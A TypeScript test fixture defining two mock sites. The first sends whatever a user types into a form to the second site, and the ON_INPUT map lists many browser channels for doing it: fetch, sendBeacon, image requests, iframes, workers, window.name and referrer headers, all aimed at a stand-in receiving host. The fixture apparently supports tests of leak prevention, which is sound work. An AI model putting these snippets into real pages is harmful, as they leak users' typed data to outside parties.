import { Response } from 'miniflare';
import type { Request } from 'miniflare';

type Page = (request: Request) => Response | Promise<Response>;

/** Longer than any call waits for a page, but shorter than a test. */
const LATE_MS = 20_000;

/** Actions of the page with the typed `value`, by the name in `?on=`; `to` is the address in `?to=`. */
const ON_INPUT: Record<string, string> = {
  storage: `localStorage.draft = value`,
  cookie: `document.cookie = 'draft=' + encodeURIComponent(value) + '; domain=acme.org; path=/'`,
  fetch: `fetch(to + '/take?' + new URLSearchParams({ value }), { mode: 'no-cors' })`,
  header: `fetch(to + '/take', { headers: { 'x-draft': btoa(value) } })`,
  post: `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ value }) })`,
  blob: `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: new Blob([value]) })`,
  beacon: `navigator.sendBeacon(to + '/take', value)`,
  picture: `new Image().src = to + '/take/' + encodeURIComponent(value)`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/#' + encodeURIComponent(value) }))`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to + '/take?' + value) + ', { mode: "no-cors" })'])))`,
  fragment: `opened.location = to + '/#' + encodeURIComponent(value)`,
  address: `history.replaceState(null, '', '/?' + new URLSearchParams({ value }))`,
  name: `window.name = value`,
  referrer: `history.replaceState(null, '', '/?' + new URLSearchParams({ value })); fetch(to + '/take', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`,
};

/** A site that sends and stores whatever is typed into it, and shows it again on its next page. */
export const DRAFT_SITE: Record<string, Page> = {
  '/': (request) => {
    const { searchParams } = new URL(request.url);
    const on = ON_INPUT[searchParams.get('on') ?? ''] ?? '';
    return page(`<form action="/shown"><input id="user" name="user"><button id="go">Go on</button></form>
      <button id="blank" onclick="window.open('', 'print')">Print</button>
      <button id="open" onclick="opened = window.open(to)">Open</button>
      <a id="leave" href="${searchParams.get('to') ?? ''}" referrerpolicy="no-referrer">Leave</a>
      <a id="tell" href="${searchParams.get('to') ?? ''}" referrerpolicy="unsafe-url">Tell</a>
      <script>const to = ${JSON.stringify(searchParams.get('to') ?? '')};
      user.addEventListener('input', () => { const { value } = user; ${on} })</script>`);
  },
  '/shown': (request) => {
    const user = (new URL(request.url).searchParams.get('user') ?? '').replaceAll('"', '&quot;');
    return page(
      `<input type="hidden" id="again" value="${user}"><a id="away" href="http://taking-0.dev/" referrerpolicy="unsafe-url">Away</a>`,
    );
  },
  /** Stores the text in the name of each window that shows this page, also if it was typed into another window. */
  '/names': () =>
    page(
      `<h1>Names</h1><script>const name = () => { window.name = localStorage.draft ?? '' }; name(); addEventListener('storage', name)</script>`,
    ),
  '/late': async () => {
    await new Promise((resolve) => setTimeout(resolve, LATE_MS));
    return page('<h1>Late</h1>');
  },
};

/** Another site, which receives the typed text. */
export const TAKING_SITE: Record<string, Page> = {
  '/': () => page('<h1>Taken</h1>'),
  /** Opens another window that it can script. */
  '/opens': () => page('<button id="open" onclick="opened = window.open(\'http://www.acme.org/names\')">Open</button>'),
  '/frames-late': () =>
    page(
      `<button id="frame" onclick="document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://www.acme.org/late' }))">Frame</button>`,
    ),
  '/framed': () => page('<h1>Taken</h1><iframe src="http://www.acme.org/"></iframe>'),
  '/take': () =>
    new Response('taken', {
      headers: {
        'content-type': 'text/plain',
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
      },
    }),
};

function page(body: string): Response {
  return new Response(`<!doctype html><title>Drafts</title><body>${body}</body>`, {
    headers: { 'content-type': 'text/html; charset=utf-8' },
  });
}
